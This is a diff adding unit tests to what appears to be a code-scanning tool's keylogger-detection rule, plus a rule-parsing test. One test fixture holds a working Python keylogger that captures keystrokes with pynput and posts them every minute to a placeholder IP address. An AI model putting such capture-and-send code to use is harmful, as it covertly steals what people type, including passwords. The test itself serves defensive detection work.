@@ -61,3 +61,30 @@ def test_host_identity_read_through_reflection_and_sent_is_high(path, code, line
     got = {(f.line, f.severity) for f in analyzer.analyze(Document(path=path, content=plain.encode())).findings
            if f.rule_id == "host-identity-sent-over-network"}
     assert got == {(line, "medium")}
+
+
+def test_together_scope_is_function_or_file_and_only_with_together():
+    from codescan.rules_facts import parse_facts
+    pair = [{"callee": "a.b"}, {"callee": "c.d"}]
+    assert parse_facts({"together": pair, "scope": "file"}, "t").scope == "file"
+    assert parse_facts({"together": pair}, "t").scope == "function"
+    with pytest.raises(FactRuleError):
+        parse_facts({"together": pair, "scope": "module"}, "t")
+    with pytest.raises(FactRuleError):
+        parse_facts({"sink": {"callee": "a.b"}, "scope": "file"}, "t")
+
+
+def _keylogger_findings(code: str) -> list[tuple[int, str]]:
+    analyzer = Analyzer(RULES.select(("keystrokes-sent-over-network",), ()), Config(honour_suppressions=False))
+    return [(f.line, f.severity) for f in analyzer.analyze(Document(path="k.py", content=code.encode())).findings]
+
+
+def test_keylogger_callback_and_timer_sender_in_different_functions_are_one_behaviour():
+    code = ("import threading, requests\nfrom pynput import keyboard\nLOG = []\n"
+            "def on_press(key):\n    LOG.append(str(key))\n"
+            "def flush():\n    requests.post('https://203.0.113.9/k', data=''.join(LOG))\n"
+            "    threading.Timer(60, flush).start()\n"
+            "keyboard.Listener(on_press=on_press).start()\n")
+    assert _keylogger_findings(code) == [(9, "critical")]
+    quiet = code.replace("    requests.post('https://203.0.113.9/k', data=''.join(LOG))\n", "    print(LOG)\n")
+    assert quiet != code and _keylogger_findings(quiet) == []
